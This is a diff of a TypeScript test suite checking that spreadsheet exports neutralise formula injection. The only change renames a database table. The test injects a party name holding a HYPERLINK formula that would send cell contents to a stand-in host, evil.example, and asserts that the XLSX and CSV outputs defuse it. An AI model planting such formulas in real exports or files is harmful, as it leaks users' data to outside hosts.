@@ -300,9 +300,9 @@ describe('formula guard', () => {
   it('a formula-like party name is a plain string cell in XLSX and neutralised in CSV', async () => {
     const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
     const em = stack.em('revenue');
-    const [{ name_zh: before }] = (await sql<{ name_zh: string }>(em, `select name_zh from org_view where id = $1`, [MARKET])) as [{ name_zh: string }];
+    const [{ name_zh: before }] = (await sql<{ name_zh: string }>(em, `select name_zh from org_projection where id = $1`, [MARKET])) as [{ name_zh: string }];
     // The registry renamed the agency (as OrganizationRegistered would): the name is party input.
-    await sql(em, `update org_view set name_zh = $2 where id = $1`, [MARKET, evil]);
+    await sql(em, `update org_projection set name_zh = $2 where id = $1`, [MARKET, evil]);
     try {
       const { revenueStatementExport: file } = await ok(STATEMENT_EXPORT, { s: SETTLEMENT, p: MARKET }, source);
       const ws = (await workbook(file)).worksheets[0]!;
@@ -322,7 +322,7 @@ describe('formula guard', () => {
       expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`);
       expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
     } finally {
-      await sql(em, `update org_view set name_zh = $2 where id = $1`, [MARKET, before]);
+      await sql(em, `update org_projection set name_zh = $2 where id = $1`, [MARKET, before]);
     }
   });
 });
